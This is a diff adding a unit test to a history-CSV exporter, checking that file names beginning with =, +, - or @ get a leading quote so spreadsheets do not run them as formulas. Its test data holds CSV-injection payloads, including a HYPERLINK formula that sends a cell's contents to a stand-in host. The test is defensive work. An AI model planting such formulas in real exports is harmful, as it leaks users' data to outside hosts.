@@ -36,6 +36,15 @@ describe('history CSV', () => {
     expect(text).toContain(',"a,""b"".pdf",');
   });
 
+  it("keeps a spreadsheet from running a sender's file name as a formula (CSV injection)", () => {
+    const names = ['=HYPERLINK("http://x.example/?"&A1).pdf', '+1+cmd.pdf', '-2.txt', '@SUM(A1).png'];
+    for (const name of names) {
+      const text = historyCsvText([item({ files: [{ name, kind: 'attachment', size: 1, sha256: 'b' }] })]);
+      const cell = text.split('\r\n')[1].split(',').slice(9).join(',');
+      expect([name, cell.startsWith("'") || cell.startsWith(`"'`)]).toEqual([name, true]);
+    }
+  });
+
   it('gives the same rows in UTF-8 (with BOM) and MS932', () => {
     const items = [item(), item({ id: '2', event: 'received', role: 'receiver' })];
     const utf8 = encodeHistoryCsv(items, 'utf-8');
